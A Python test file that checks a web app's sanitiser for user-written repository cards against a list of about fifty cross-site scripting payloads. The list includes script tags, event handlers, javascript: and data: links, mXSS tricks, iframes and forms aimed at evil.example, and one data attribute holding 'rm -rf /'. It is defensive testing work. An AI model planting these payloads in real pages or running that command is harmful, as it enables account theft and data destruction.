"""What somebody wrote in a card cannot run, cannot leave its place, and still reads well."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from zoco.core.ids import RepoId, RepoType
from zoco.surfaces.web.markdown import render_markdown
from zoco.surfaces.web.sanitise import Place, clean

PLACE = Place(RepoId(RepoType.MODEL, "alba", "iris"), "main", "docs")

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onload="alert(1)" style="position:fixed">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<input type="password" autofocus onfocus=alert(1)>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>*{display:none}</style>",
    '<div style="background:url(https://evil.example)">x</div>',
    '<p class="btn primary wrap top" id="z-main">x</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1) autoplay></video>",
    '<audio src="javascript:alert(1)"></audio>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<div data-behavior="confirm-name" data-copy="rm -rf /">x</div>',
    '<a href="#" target="_top" onclick="alert(1)">x</a>',
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\\\(\\text{<img src=x onerror=alert(1)>}\\\\)",
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text: str) -> None:
    parser = Tags()
    parser.feed(render_markdown(text, PLACE).html)
    for tag, attributes in parser.found:
        assert tag not in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "style",
            "base",
            "meta",
            "link",
            "svg",
            "button",
        }
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-", "xlink"))
            assert name not in {"style", "srcdoc", "target", "autofocus", "autoplay", "formaction"}
            assert not (name == "id" and (value or "").lower().startswith("z-")), "an id of the page's own"
            if name in {"href", "src", "poster"}:
                assert re.match(r"(https?://|mailto:|/(?![/\\])|#)", value or ""), value
            if name == "class":
                assert not {"btn", "primary", "top", "wrap"} & set((value or "").split())
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes


def test_relative_links_lead_into_the_repository() -> None:
    html = clean('<a href="../config.json#x">c</a><img src="img/a b.png"><a href="..">up</a>', PLACE)
    assert 'href="/alba/iris/blob/main/config.json#x"' in html
    assert 'src="/alba/iris/resolve/main/docs/img/a%20b.png"' in html
    assert 'href="/alba/iris/tree/main"' in html


def test_a_link_cannot_climb_out_of_the_repository() -> None:
    assert 'href="/alba/iris/blob/main/settings"' in clean('<a href="../../../../settings">x</a>', PLACE)


def test_pictures_of_other_hosts_are_kept_only_where_the_operator_allows_them() -> None:
    picture = '<img src="https://else.example/a.png" alt="A">'
    assert "else.example" in clean(picture, Place(PLACE.repo))
    blocked = clean(picture, Place(PLACE.repo, shows_remote_images=False))
    assert "else.example" not in blocked
    assert 'alt="A"' in blocked


def test_what_cards_use_is_kept() -> None:
    kept = "<details><summary>More</summary><p><kbd>a</kbd> H<sub>2</sub>O</p></details>"
    assert clean(kept, PLACE) == kept
